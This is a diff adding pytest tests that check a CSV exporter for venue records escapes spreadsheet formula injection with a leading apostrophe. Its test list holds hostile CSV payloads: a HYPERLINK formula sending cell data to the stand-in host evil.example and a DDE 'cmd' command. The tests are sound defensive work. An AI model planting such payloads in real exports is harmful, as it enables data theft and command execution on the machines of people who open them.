@@ -402,3 +402,38 @@ def test_hours_osm_would_read_otherwise_are_named_as_a_loss() -> None:
 
     assert "'leeds-test-cafe-hours'" in limitation
     assert "23 Dec 2026" in limitation
+
+
+# What a hostile or careless publisher can put in a text field, and a spreadsheet would run when an analyst opens the
+# export: a link that sends a neighbouring cell away, a DDE command, an arithmetic formula.
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?d="&A2,"Urgent help: click here")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "'=already quoted once",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_text_a_spreadsheet_would_run_is_exported_as_text_and_imported_back_as_written(text: str) -> None:
+    record = _expressible(_record(name=text, alert=text, organisation={"id": "test-org", "name": text}))
+
+    exported = to_csv([record])
+    [row] = _table(exported)
+    [parsed] = parse_csv(exported)
+
+    # A leading apostrophe is how every spreadsheet is told "this is text": it shows the text and runs nothing.
+    assert {row["name"], row["alert"], row["organisation_name"]} == {"'" + text}
+    assert parsed.problems == []
+    assert parsed.record == record
+
+
+def test_numbers_and_plain_text_are_exported_as_they_are() -> None:
+    record = _expressible(_record(name="Leeds Test Café", alert="- closed on Monday 1 December -"))
+
+    [row] = _table(to_csv([record]))
+
+    assert row["longitude"] == "-1.548567"  # a negative number is no formula: left as a number
+    assert row["name"] == "Leeds Test Café"
+    assert row["alert"] == "'- closed on Monday 1 December -"  # begins with '-': a spreadsheet would read a formula
